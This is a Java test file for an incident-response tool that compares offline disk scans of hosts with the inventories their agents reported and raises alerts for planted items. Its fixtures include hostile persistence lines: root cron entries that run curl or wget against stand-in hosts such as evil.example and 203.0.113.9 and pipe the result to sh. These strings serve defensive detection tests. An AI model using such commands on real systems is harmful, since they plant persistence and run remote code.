package bzh.vigie.collector;

import static bzh.vigie.collector.store.Specimens.ANALYST;
import static bzh.vigie.collector.store.Specimens.AURAY;
import static bzh.vigie.collector.store.Specimens.CONCARNEAU;
import static bzh.vigie.collector.store.Specimens.agent;
import static bzh.vigie.collector.store.Specimens.minute;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import bzh.vigie.collector.conclusion.Conclusion;
import bzh.vigie.collector.conclusion.Criterion.Kind;
import bzh.vigie.collector.conclusion.Criterion.State;
import bzh.vigie.collector.conclusion.Facts;
import bzh.vigie.collector.detect.returns.ArtefactPresence.NotConfirmed;
import bzh.vigie.collector.detect.returns.ArtefactPresence.Why;
import bzh.vigie.collector.detect.returns.Artefacts;
import bzh.vigie.collector.intel.Indicator;
import bzh.vigie.collector.intel.Observable;
import bzh.vigie.collector.intel.Tlp;
import bzh.vigie.collector.store.Alerts.Alert;
import bzh.vigie.collector.store.Alerts.Closing;
import bzh.vigie.collector.store.Alerts.Move;
import bzh.vigie.collector.store.Alerts.Severity;
import bzh.vigie.collector.store.Alerts.Step;
import bzh.vigie.collector.store.Attestations.Answer;
import bzh.vigie.collector.store.Attestations.Statement;
import bzh.vigie.collector.store.IncidentId;
import bzh.vigie.collector.store.Incidents.Interval;
import bzh.vigie.collector.store.Scans;
import bzh.vigie.collector.store.Scans.Scan;
import bzh.vigie.collector.store.Scope;
import bzh.vigie.collector.store.Specimens;
import bzh.vigie.collector.store.Store;
import bzh.vigie.collector.store.StoreException;
import bzh.vigie.collector.store.sqlite.SqliteStore;
import bzh.vigie.event.Item;
import bzh.vigie.event.ItemFields;
import bzh.vigie.event.ItemTimes;
import bzh.vigie.event.LocationStatus;
import bzh.vigie.event.Sha256;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.time.Instant;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What is taken in of disks: kept, held against what the agent told, searched, and what may be concluded from it. */
final class IncidentScanTest {
    private static final Scope ALL = new Scope.All();
    private static final IncidentId ID = new IncidentId("2026-001");
    private static final Instant ENDED = minute(60);
    private static final Instant NOW = minute(60 * 24 * 50);
    private static final InstantSource TIME = InstantSource.fixed(NOW);
    private static final String CRON = "linux.cron.d";
    private static final String UNITS = "linux.hosts";
    private static final String CRITICAL = "linux.systemd.service";

    @TempDir
    Path dir;

    private Store store;

    @BeforeEach
    void anIncident() {
        store = SqliteStore.open(new CollectorFolder(dir).state(), TIME);
        store.change(s -> {
            s.hosts().enrol(Specimens.host(1, AURAY));
            s.hosts().enrol(Specimens.host(2, AURAY));
            s.hosts().enrol(Specimens.host(3, CONCARNEAU));
            s.incidents().open("rançongiciel", Set.of(AURAY), 30, ANALYST);
            s.incidents()
                    .eviction(
                            ALL,
                            ID,
                            Optional.empty(),
                            Optional.of(new Interval(minute(0), Optional.of(ENDED))),
                            ANALYST);
            for (Item item : List.of(item("backup", "rsync -a /srv"), item("mail", "mailq"))) {
                s.inventories().put(agent(1), AURAY, item, 1, minute(70));
            }
            read(s, CRON, LocationStatus.State.READ);
            read(s, UNITS, LocationStatus.State.READ);
        });
    }

    @AfterEach
    void close() {
        store.close();
    }

    private static void read(Store.Session session, String location, LocationStatus.State state) {
        session.inventories().read(agent(1), Specimens.read(location, Optional.empty(), state, 1, true), minute(70));
    }

    private static Item item(String name, String value) {
        return Specimens.item(CRON, Optional.empty(), name, value, 0);
    }

    private static String line(Item item) {
        JsonRow row = new JsonRow("item");
        ItemFields.of(item).forEach((name, value) -> {
            switch (value) {
                case List<?> list ->
                    row.put(name, list.stream().map(String::valueOf).toList());
                case Boolean truth -> row.put(name, truth);
                default -> row.put(name, String.valueOf(value));
            }
        });
        return row.toString();
    }

    private static String place(String location, String status) {
        return "{\"kind\":\"location\",\"location\":\"" + location + "\",\"status\":\"" + status + "\"}";
    }

    private static String summary(String reader, String os) {
        return summary(reader, os, ",\"hostname\":\"PC-1.mairie.local\"");
    }

    private static String summary(String reader, String os, String more) {
        return "{\"kind\":\"summary\",\"reader\":\"" + reader + "\",\"os\":\"" + os + "\",\"catalogue_version\":7"
                + more + "}";
    }

    @Test
    void oneDiskIsOfOneHost() throws IOException {
        String id = ",\"installation_id\":\"" + "b".repeat(64) + "\",\"newest_time\":\"";
        String time = minute(75).toString();
        Path file = file(List.of(place(CRON, "read"), summary("offline", "linux", id + time + "\"")));
        assertEquals(0, take(file, "--name", "PC-51").code());
        file = file(List.of(
                line(item("other", "rsync")), place(CRON, "read"), summary("offline", "linux", id + time + "\"")));
        CommandRun again = take(file, "--name", "PC-52");
        assertEquals(1, again.code());
        assertTrue(again.err().contains("C'est le disque qui a été pris pour PC-51"), again.err());
        // A clone of one master has its id, and another last write.
        String later = minute(76).toString();
        file = file(List.of(place(CRON, "read"), summary("offline", "linux", id + later + "\"")));
        assertEquals(0, take(file, "--name", "PC-53").code());
    }

    /** A disk with these items, both places read, by a system from other media. */
    private Path disk(Item... items) throws IOException {
        List<String> lines =
                new ArrayList<>(Stream.of(items).map(IncidentScanTest::line).toList());
        lines.addAll(List.of(place(CRON, "read"), place(UNITS, "read"), summary("offline", "linux")));
        return file(lines);
    }

    private Path file(List<String> lines) throws IOException {
        return Files.write(dir.resolve("disk.jsonl"), lines);
    }

    private CommandRun scan(String... arguments) {
        return CommandRun.of(
                new IncidentScanCommand(TIME),
                dir,
                Stream.concat(Stream.of("2026-001", "--lang", "fr"), Stream.of(arguments))
                        .toList());
    }

    private CommandRun take(Path file, String... more) {
        return scan(Stream.concat(
                        Stream.of(
                                "--import",
                                file.toString(),
                                "--as-of",
                                minute(80).toString(),
                                "--reason",
                                "saisi"),
                        Stream.of(more))
                .toArray(String[]::new));
    }

    private CommandRun takeOfHost(Path file, String... more) {
        return take(
                file,
                Stream.concat(Stream.of("--host", agent(1).text(), "--other-media"), Stream.of(more))
                        .toArray(String[]::new));
    }

    private List<Alert> alerts() {
        return store.read(s -> s.alerts().list(ALL, Optional.empty(), 100));
    }

    private void mark(String key, String... where) {
        CommandRun marked = CommandRun.of(
                new IncidentTombstoneCommand(TIME),
                dir,
                Stream.of(
                                Stream.of("add", "2026-001", "--lang", "fr", "--reason", "vu"),
                                Stream.of(where),
                                Stream.of("--key", key))
                        .flatMap(each -> each)
                        .toList());
        assertEquals(0, marked.code(), marked.err());
    }

    @Test
    void whatTheAgentDidNotTellIsAHighFindingWithItsEvidence() throws IOException {
        Item hidden = item("implant", "curl http://203.0.113.9/x");
        CommandRun taken = takeOfHost(disk(hidden, item("backup", "rsync -a /srv --delete")));
        assertEquals(0, taken.code(), taken.err());
        assertTrue(
                taken.out().contains("seulement sur le disque : 1  seulement dit par l'agent : 1  différents : 1"),
                taken.out());
        List<Alert> all = alerts();
        Alert one = all.stream()
                .filter(each -> each.rule().equals("vigie-item-not-shown"))
                .findFirst()
                .orElseThrow();
        assertTrue(one.severity().compareTo(Severity.HIGH) >= 0);
        assertEquals(hidden.key(), one.evidence().get("key"));
        assertEquals("1", one.evidence().get(Scans.SCAN));
        assertEquals(minute(80).toString(), one.evidence().get(Scans.AS_OF));
        assertEquals(agent(1), one.host());
        assertEquals(
                Set.of("vigie-item-not-shown", "vigie-item-in-one-reading", "vigie-item-read-otherwise"),
                Set.copyOf(all.stream().map(Alert::rule).toList()));
        assertEquals(1, takeOfHost(dir.resolve("disk.jsonl")).code(), "the same file twice");
        assertTrue(scan("--format", "jsonl").out().contains("\"only_on_disk\":1"));
    }

    /** What it came to know later counts no more than what it forgot: the disk is of its time. */
    @Test
    void theInventoryOfThatTimeIsCompared() throws IOException {
        Path disk = disk(item("backup", "rsync -a /srv"), item("mail", "mailq"));
        store.change(s -> s.inventories().put(agent(1), AURAY, item("later", "apt"), 1, minute(90)));
        assertTrue(takeOfHost(disk).out().contains("seulement dit par l'agent : 0"));
        assertEquals(List.of(), alerts());
    }

    @Test
    void aPlaceThatOneCouldNotReadIsNamedAndNotCompared() throws IOException {
        store.change(s -> read(s, UNITS, LocationStatus.State.UNREADABLE));
        Path disk = file(List.of(
                line(item("backup", "rsync -a /srv")),
                line(Specimens.item(UNITS, Optional.empty(), "x", "x", 0)),
                place(CRON, "partial"),
                place(UNITS, "read"),
                summary("offline", "linux")));
        CommandRun taken = takeOfHost(disk);
        assertTrue(taken.out().contains("emplacements non comparés : 2"), taken.out());
        assertTrue(taken.out().contains("non comparé : " + CRON), taken.out());
        assertEquals(List.of(), alerts());
    }

    @Test
    void aFileThatIsNoWholeScanIsRefusedAndLinesAreCounted() throws IOException {
        String good = line(item("backup", "rsync -a /srv"));
        assertTrue(take(file(List.of(good)), "--name", "PC-42").err().contains("coupé"));
        assertTrue(take(file(List.of(good, summary("offline", "linux"), good)), "--name", "PC-42")
                .err()
                .contains("coupé"));
        assertTrue(take(file(List.of("rien")), "--name", "PC-42").err().contains("aucune ligne"));
        assertTrue(take(file(List.of(good, summary("x", "linux"))), "--name", "PC-42")
                .err()
                .contains("lecteur"));
        assertTrue(take(file(List.of(good, summary("live", "linux"))), "--name", "PC-42", "--other-media")
                .err()
                .contains("système en marche"));
        assertTrue(takeOfHost(file(List.of(good, place(CRON, "read"), summary("offline", "windows"))))
                .err()
                .contains("autre système"));
        assertEquals(1, take(disk(), "--host", agent(3).text()).code(), "a host of another commune");
        assertEquals(
                2, scan("--import", "x", "--name", "PC-42", "--reason", "r").code(), "of when it is");
        assertEquals(List.of(), store.read(s -> s.scans().list(ALL, ID)));
        CommandRun some = take(
                file(List.of(
                        "{\"kind\":\"item\"}",
                        good,
                        "[".repeat(2_000),
                        "{\"kind\":\"item\",\u001b[2J",
                        summary("offline", "linux"))),
                "--name",
                "PC-42");
        assertEquals(0, some.code(), some.err());
        assertTrue(some.err().contains("Lignes qui ne sont pas celles d'une analyse : 3"), some.err());
        assertFalse(some.err().contains("\u001b"), some.err());
    }

    @Test
    void theFileIsKeptAsItWasAndTakenBackByALine() throws Exception {
        Path file = disk(item("backup", "rsync -a /srv"));
        assertEquals(0, take(file, "--name", "PC-42").code());
        Scan kept = store.read(s -> s.scans().list(ALL, ID)).getFirst();
        assertArrayEquals(Files.readAllBytes(file), store.read(s -> s.scans().bytes(kept)));
        assertEquals("7", kept.content().catalogue());
        assertEquals(List.of(), store.read(s -> s.scans().list(new Scope.Communes(Set.of(CONCARNEAU)), ID)));
        try (Connection connection = DriverManager.getConnection(
                        "jdbc:sqlite:" + new CollectorFolder(dir).state().resolve(SqliteStore.FILE));
                var statement = connection.createStatement()) {
            assertThrows(Exception.class, () -> statement.executeUpdate("DELETE FROM disk_scan_part"));
            statement.executeUpdate("DROP TRIGGER disk_scan_part_never_changes");
            statement.executeUpdate("UPDATE disk_scan_part SET deflated = x'789c030000000001'");
        }
        assertThrows(StoreException.class, () -> store.read(s -> s.scans().bytes(kept)));
        assertEquals(0, scan("--withdraw", "1", "--reason", "erreur").code());
        assertEquals(1, scan("--withdraw", "1", "--reason", "erreur").code());
        assertEquals(List.of(), store.read(s -> s.scans().standing(ALL)));
        assertFalse(store.read(s -> s.scans().list(ALL, ID)).getFirst().standing());
    }

    /** In both orders: what is marked or added is looked for on disks that are there, and on those that come. */
    @Test
    void disksAreSearchedForMarksAndIndicators() throws IOException {
        Item theirs = item("implant", "curl -fsSL http://evil.example/payload.sh --output /tmp/payload");
        mark(item("backup", "rsync -a /srv").key(), "--host", agent(1).text(), "--anyway");
        assertEquals(
                0,
                take(disk(theirs, item("backup", "rsync -a /srv")), "--name", "PC-42")
                        .code());
        assertEquals(List.of("vigie-return"), recurrences());
        assertEquals(Scans.idOf(AURAY, "PC-42"), alerts().getFirst().host());

        mark(
                theirs.key(),
                "--scan",
                "1",
                "--key",
                item("backup", "rsync -a /srv").key(),
                "--anyway");
        assertEquals(
                2L,
                store.read(s -> s.tombstones().list(ALL, ID)).stream()
                        .filter(each -> each.host().equals(Optional.of(Scans.idOf(AURAY, "PC-42"))))
                        .count());
        assertEquals(List.of("vigie-return"), recurrences(), "not where it is marked itself");
        Path other = file(List.of(line(theirs), place(CRON, "read"), summary("offline", "linux")));
        assertEquals(0, take(other, "--name", "PC-43").code());
        Alert again = alerts().stream()
                .filter(each -> each.hostname().equals("PC-43") && each.rule().equals("vigie-return"))
                .findFirst()
                .orElseThrow();
        assertEquals("after", again.evidence().get("eviction"));
        assertEquals(
                List.of(
                        "PC-42 " + Optional.empty(),
                        "PC-42 " + Optional.of(minute(80)),
                        "PC-43 " + Optional.of(minute(80))),
                store.read(s -> Artefacts.of(s, ALL, ID, NOW)).stream()
                        .filter(each -> each.state() instanceof NotConfirmed unknown && unknown.why() == Why.NO_AGENT)
                        .map(each -> each.hostname() + " " + each.state().lastPresent())
                        .sorted(Comparator.comparing(told -> told.replace("Optional.empty", "")))
                        .toList(),
                "by the name of the disk's host, and of when it was seen there");

        Path list = Files.writeString(dir.resolve("list.txt"), "evil.example\n");
        CommandRun added = CommandRun.of(
                new IncidentWatchlistCommand(TIME),
                dir,
                List.of("import", list.toString(), "--incident", "2026-001", "--tlp", "amber", "--reason", "r"));
        assertEquals(0, added.code(), added.err());
        assertEquals(
                Set.of("PC-42", "PC-43"),
                Set.copyOf(alerts().stream()
                        .filter(each -> each.evidence().containsKey("indicator_id"))
                        .map(Alert::hostname)
                        .toList()));
        store.change(s -> s.indicators()
                .add(
                        Optional.of("2026-001"),
                        List.of(indicator(theirs.sha256().orElseThrow().hex())),
                        "t",
                        ANALYST));
        assertEquals(0, take(disk(theirs), "--name", "PC-44").code());
        assertEquals(
                2,
                alerts().stream()
                        .filter(each -> each.hostname().equals("PC-44")
                                && each.evidence().containsKey("indicator_id"))
                        .count());
    }

    /** Rules of the recurrence of marks among the alerts. */
    private List<String> recurrences() {
        Set<String> of = Set.of("vigie-return", "vigie-suspected-return", "vigie-not-removed", "vigie-same-attack");
        return alerts().stream().map(Alert::rule).filter(of::contains).toList();
    }

    private CommandRun takeAt(int minute, Item... items) throws IOException {
        List<String> lines =
                new ArrayList<>(Stream.of(items).map(IncidentScanTest::line).toList());
        lines.add(place(CRON, "read"));
        lines.add(summary("offline", "linux", ",\"seconds\":" + minute));
        String time = minute(minute).toString();
        return scan("--import", file(lines).toString(), "--as-of", time, "--reason", "saisi", "--name", "PC-42");
    }

    /** A line of a crontab of no package. */
    private static Item made(String name, String value) {
        return new Item(
                CRON,
                List.of("T1053.003"),
                "linux",
                Optional.empty(),
                name,
                value,
                "/etc/cron.d/" + name,
                "/opt/report/run",
                Optional.of(Sha256.over(value.getBytes(StandardCharsets.UTF_8))),
                "",
                Item.Signature.NOT_CHECKED,
                "",
                Item.Shipped.UNOWNED,
                true,
                ItemTimes.NONE,
                List.of(),
                "",
                "",
                "",
                "",
                "",
                "",
                "",
                value.contains("curl") ? Set.of(Item.Trait.NETWORK_TOOL) : Set.of());
    }

    /** A line of a disk is one of a host that tells: judged as there at first, then as come, under monitoring. */
    @Test
    void aDiskIsJudgedByTheRulesLikeAHost() throws IOException {
        Item miner = made("sync", "* * * * * root curl -fsSL http://203.0.113.9/x | sh");
        Item backup = item("backup", "30 2 * * * root rsync -a /srv /mnt");
        assertEquals(0, takeAt(30, miner, backup).code());
        Alert there = alerts().getFirst();
        assertEquals(1, alerts().size(), alerts().toString());
        assertTrue(there.severity().compareTo(Severity.HIGH) >= 0, there.toString());
        assertEquals("present", there.evidence().get("change"));
        assertEquals("PC-42", there.hostname());
        assertEquals("1", there.evidence().get(Scans.SCAN));

        Item other = made("logs", "0 4 * * * root /opt/report/run");
        assertEquals(0, takeAt(80, miner, backup, other).code());
        List<Alert> since = alerts().stream()
                .filter(each -> each.evidence().getOrDefault(Scans.SCAN, "").equals("2"))
                .toList();
        assertEquals(
                List.of(other.key()),
                since.stream().map(each -> each.evidence().get("key")).toList(),
                "what was there is not told again");
        assertEquals("added", since.getFirst().evidence().get("change"));
        assertTrue(since.getFirst().severity().compareTo(Severity.MEDIUM) >= 0, "under monitoring");
    }

    /** At its own place, on its own disk, after the eviction: never removed, or back where a scan showed it gone; also where it was altered. */
    @Test
    void aMarkedItemAtItsOwnPlaceOnADiskIsTold() throws IOException {
        Item theirs = made("implant", "* * * * * root curl -fsSL http://evil.example/payload.sh --output /tmp/payload");
        Item backup = item("backup", "30 2 * * * root rsync -a /srv /mnt");
        assertEquals(0, takeAt(30, theirs, backup).code());
        mark(theirs.key(), "--scan", "1");
        assertEquals(List.of(), recurrences());
        assertEquals(0, takeAt(70, theirs, backup).code());
        assertEquals(List.of("vigie-not-removed"), recurrences());
        assertEquals(0, takeAt(80, backup).code());
        assertEquals(List.of("vigie-not-removed"), recurrences());
        assertEquals(0, takeAt(90, theirs, backup).code());
        assertEquals(Set.of("vigie-not-removed", "vigie-return"), Set.copyOf(recurrences()));
        Item altered = made("implant", "* * * * * root wget -q http://evil.example/other.sh -O /var/tmp/.x");
        assertEquals(theirs.key(), altered.key());
        assertEquals(0, takeAt(100, altered, backup).code());
        assertEquals(
                3,
                alerts().stream()
                        .filter(each ->
                                Set.of("vigie-return", "vigie-not-removed").contains(each.rule()))
                        .mapToInt(Alert::count)
                        .sum(),
                "altered, it is one more of the same recurrence");
    }

    private static Indicator indicator(String sha256) {
        return new Indicator(
                new Observable.Hash(Observable.Algorithm.SHA256, sha256),
                "test",
                "",
                Tlp.GREEN,
                80,
                Optional.empty(),
                Optional.empty(),
                false,
                true);
    }

    private List<String> objections() {
        Conclusion conclusion = store.read(
                s -> Conclusion.of(Facts.of(s, ALL, s.incidents().find(ALL, ID).orElseThrow(), NOW)));
        return conclusion.criteria().stream()
                .filter(each -> each.kind() == Kind.REBUILT_WHERE_PRIVILEGED && each.state() == State.NOT_MET)
                .flatMap(each -> each.about().stream())
                .toList();
    }

    private void attest(Statement statement, Answer answer) {
        attest(statement, answer, "PV");
    }

    private void attest(Statement statement, Answer answer, String proof) {
        store.change(s -> s.attestations()
                .attest(
                        ALL,
                        ID,
                        statement,
                        Optional.of(agent(1)),
                        Optional.of(answer),
                        proof,
                        Optional.empty(),
                        ANALYST));
    }

    @Test
    void onlyAFileShowsThatAScanAgrees() throws IOException {
        attest(Statement.PRIVILEGED_CODE, Answer.YES);
        assertEquals(List.of("pc-1"), objections());
        attest(Statement.OFFLINE_SCAN_AGREES, Answer.YES);
        assertEquals(List.of("pc-1  scan-without-file"), objections());

        Item[] same = {item("backup", "rsync -a /srv"), item("mail", "mailq")};
        assertEquals(0, take(disk(same), "--host", agent(1).text()).code());
        assertEquals(List.of("pc-1  scan-by-its-own-system"), objections());
        assertEquals(0, scan("--withdraw", "1", "--reason", "r").code());

        assertEquals(
                0,
                scan(
                                "--import",
                                disk(same).toString(),
                                "--host",
                                agent(1).text(),
                                "--other-media",
                                "--as-of",
                                minute(59).toString(),
                                "--reason",
                                "r")
                        .code());
        assertEquals(List.of("pc-1  scan-before-the-end"), objections());
        assertEquals(0, scan("--withdraw", "2", "--reason", "r").code());

        assertEquals(0, takeOfHost(disk(same)).code());
        assertEquals(List.of(), objections());
        attest(Statement.OFFLINE_SCAN_AGREES, Answer.NO);
        assertEquals(List.of("pc-1  scan-denied"), objections());
    }

    @Test
    void everyDifferenceIsClosedAndEveryPlaceComparedOrAttestedBeforeAScanAgrees() throws IOException {
        attest(Statement.PRIVILEGED_CODE, Answer.YES);
        Item hidden = Specimens.planted(CRON, "implant", "curl http://203.0.113.9/x");
        store.change(s -> read(s, UNITS, LocationStatus.State.PARTIAL));
        assertEquals(
                0,
                takeOfHost(disk(item("backup", "rsync -a /srv"), item("mail", "mailq"), hidden))
                        .code());
        assertEquals(List.of("pc-1  scan-differs"), objections());
        Alert alert = alerts().getFirst();
        store.change(s -> s.alerts().decide(ALL, alert.id(), Move.close(Closing.TRUE), ANALYST));
        assertEquals(List.of("pc-1  scan-differs"), objections());
        store.change(s -> {
            s.alerts().decide(ALL, alert.id(), Move.of(Step.REOPENED), ANALYST);
            s.alerts().decide(ALL, alert.id(), Move.close(Closing.EXPECTED), ANALYST);
        });
        assertEquals(List.of("pc-1  scan-not-whole"), objections());
        attest(Statement.OFFLINE_SCAN_AGREES, Answer.YES);
        assertEquals(List.of("pc-1  scan-not-whole"), objections(), "its proof does not say which places");
        attest(Statement.OFFLINE_SCAN_AGREES, Answer.YES, "lu à la main : " + UNITS);
        assertEquals(List.of(), objections());
        mark(hidden.key(), "--scan", "1");
        assertEquals(List.of("pc-1  scan-differs"), objections());
    }

    @Test
    void noWordStandsForAPlaceThatRunsCodeAsTheSystem() throws IOException {
        attest(Statement.PRIVILEGED_CODE, Answer.YES);
        store.change(s -> read(s, CRITICAL, LocationStatus.State.PARTIAL));
        List<String> lines =
                new ArrayList<>(Files.readAllLines(disk(item("backup", "rsync -a /srv"), item("mail", "mailq"))));
        lines.addFirst(place(CRITICAL, "read"));
        assertEquals(0, takeOfHost(file(lines)).code());
        attest(Statement.OFFLINE_SCAN_AGREES, Answer.YES, "lu à la main : " + CRITICAL);
        assertEquals(List.of("pc-1  scan-critical-not-compared"), objections());
    }

    /** What the host's agent read of its domain is not on its disk; what a controller's disk holds of it, no scan reads. */
    @Test
    void aDirectoryIsNoPartOfItsReadersDisk() throws IOException {
        attest(Statement.PRIVILEGED_CODE, Answer.YES);
        store.change(s -> read(s, "ad.settings", LocationStatus.State.READ));
        List<String> lines =
                new ArrayList<>(Files.readAllLines(disk(item("backup", "rsync -a /srv"), item("mail", "mailq"))));
        assertTrue(takeOfHost(file(lines)).out().contains("emplacements non comparés : 0"));
        assertEquals(List.of(), objections());
        lines.addFirst(place("ad.database", "unreadable"));
        assertTrue(takeOfHost(file(lines)).out().contains("non comparé : ad.database"));
        assertEquals(List.of("pc-1  scan-not-whole"), objections());
        attest(Statement.OFFLINE_SCAN_AGREES, Answer.YES, "lu par l'annuaire : ad.database");
        assertEquals(List.of(), objections());
    }

    private CommandRun takeWith(String more, String... arguments) throws IOException {
        return takeOfHost(
                file(List.of(line(item("mail", "mailq")), place(CRON, "read"), summary("offline", "linux", more))),
                arguments);
    }

    @Test
    void aDiskThatSaysToBeOfAnotherHostOrTimeIsTakenOnlyByWhoRepeatsWhatItSays() throws IOException {
        assertTrue(takeWith("").err().contains("ne dit ni le nom ni l'identifiant"));
        CommandRun other = takeWith(",\"hostname\":\"pc-9\\u001b[2J\"");
        assertEquals(1, other.code());
        assertTrue(
                other.err().contains("Le disque s'appelle pc-9") && other.err().contains(", l'hôte pc-1."),
                other.err());
        assertFalse(other.err().contains("\u001b"), other.err());
        String facts = "{\"os\":\"linux\",\"installation_id\":\"" + "a".repeat(64) + "\"}";
        store.change(s -> s.hosts().hello(agent(1), "pc-1", facts, "0.1.0", "b", "r", 0, minute(70)));
        CommandRun clone = takeWith(",\"hostname\":\"pc-1\",\"installation_id\":\"" + "b".repeat(64) + "\"");
        assertTrue(clone.err().contains("Le disque est de l'installation bbbb"), clone.err());
        String late = minute(80 + 25 * 60).toString();
        CommandRun later =
                takeWith(",\"hostname\":\"pc-1\",\"newest_time\":\"" + late + "\",\"newest_file\":\"/var/log/wtmp\"");
        assertTrue(later.err().contains("Le disque a été écrit le " + late + " (/var/log/wtmp), après"), later.err());
        String early = minute(80 - 8 * 24 * 60).toString();
        assertTrue(takeWith(",\"hostname\":\"pc-1\",\"newest_time\":\"" + early + "\"")
                .err()
                .contains("bien avant la date"));
        assertEquals(List.of(), store.read(s -> s.scans().list(ALL, ID)));
        CommandRun confirmed = takeWith(
                ",\"hostname\":\"pc-9\",\"newest_time\":\"" + late + "\"", "--confirm", "pc-9", "--confirm", late);
        assertEquals(0, confirmed.code(), confirmed.err());
        assertEquals(
                "saisi [--confirm pc-9, " + late + "]",
                store.read(s -> s.scans().list(ALL, ID)).getFirst().author().reason());
        assertEquals(
                0,
                takeWith(",\"hostname\":\"PC-1\",\"installation_id\":\"" + "a".repeat(64) + "\",\"newest_time\":\""
                                + minute(79) + "\"")
                        .code());
    }

    /** The last day of the eviction it was switched off, and somebody says that it is of today. */
    @Test
    void aDiskThatWasLastWrittenBeforeTheEvictionEndedAgreesOnlyByAWordThatIsNamed() throws IOException {
        attest(Statement.PRIVILEGED_CODE, Answer.YES);
        store.change(s -> s.attestations()
                .attest(
                        ALL,
                        ID,
                        Statement.PRIVILEGED_HOSTS_NAMED,
                        Optional.empty(),
                        Optional.of(Answer.YES),
                        "PV",
                        Optional.empty(),
                        ANALYST));
        Path plain = disk(item("backup", "rsync -a /srv"), item("mail", "mailq"));
        assertEquals(0, takeOfHost(plain).code());
        assertEquals(List.of("pc-1  scan-date-by-word-alone"), named());
        List<String> lines = new ArrayList<>(Files.readAllLines(plain));
        String early = ENDED.minusSeconds(60).toString();
        lines.set(
                lines.size() - 1,
                summary("offline", "linux", ",\"hostname\":\"pc-1\",\"newest_time\":\"" + early + "\""));
        Path old = file(lines);
        CommandRun refused = takeOfHost(old);
        assertEquals(1, refused.code());
        assertTrue(
                refused.err().contains(early) && refused.err().contains("avant la fin de l'éviction"), refused.err());
        assertEquals(0, takeOfHost(old, "--confirm", early).code());
        assertEquals(List.of("pc-1  scan-date-confirmed  saisi [--confirm " + early + "]"), named());
        assertEquals(List.of(), objections());
        // The eviction began anew, so that the one that was of after it is not any more.
        lines.set(
                lines.size() - 1,
                summary("offline", "linux", ",\"hostname\":\"pc-1\",\"newest_time\":\"" + minute(75) + "\""));
        assertEquals(0, takeOfHost(file(lines)).code());
        assertEquals(List.of(), named());
        store.change(s -> s.incidents()
                .eviction(
                        ALL,
                        ID,
                        Optional.empty(),
                        Optional.of(new Interval(minute(0), Optional.of(minute(77)))),
                        ANALYST));
        assertEquals(List.of("pc-1  scan-before-the-end"), objections());
    }

    private List<String> named() {
        return store
                .read(s -> Conclusion.of(
                        Facts.of(s, ALL, s.incidents().find(ALL, ID).orElseThrow(), NOW)))
                .criteria()
                .stream()
                .filter(each -> each.kind() == Kind.REBUILT_WHERE_PRIVILEGED && each.state() == State.MET)
                .flatMap(each -> each.about().stream())
                .toList();
    }

    @Test
    void aScanThatComparedNextToNothingDoesNotAgree() throws IOException {
        attest(Statement.PRIVILEGED_CODE, Answer.YES);
        Path same = disk(item("backup", "rsync -a /srv"), item("mail", "mailq"));
        String[] early = {
            "--import",
            same.toString(),
            "--as-of",
            minute(65).toString(),
            "--reason",
            "r",
            "--host",
            agent(1).text(),
            "--other-media"
        };
        assertEquals(0, scan(early).code());
        attest(Statement.OFFLINE_SCAN_AGREES, Answer.YES, CRON + " " + UNITS);
        assertEquals(List.of("pc-1  scan-of-nothing-told"), objections());
        assertEquals(0, scan("--withdraw", "1", "--reason", "r").code());

        List<String> lines = new ArrayList<>(Files.readAllLines(same));
        lines.addFirst("{\"kind\":\"item\"}");
        assertEquals(0, takeOfHost(file(lines)).code());
        assertEquals(List.of("pc-1  scan-damaged"), objections());
        assertEquals(0, scan("--withdraw", "2", "--reason", "r").code());

        store.change(s -> {
            read(s, CRON, LocationStatus.State.PARTIAL);
            read(s, UNITS, LocationStatus.State.PARTIAL);
        });
        assertEquals(
                0,
                takeOfHost(disk(item("mail", "mailq"), item("backup", "rsync -a /srv")))
                        .code());
        attest(Statement.OFFLINE_SCAN_AGREES, Answer.YES, CRON + " " + UNITS);
        assertEquals(List.of("pc-1  scan-of-too-little"), objections());
    }
}
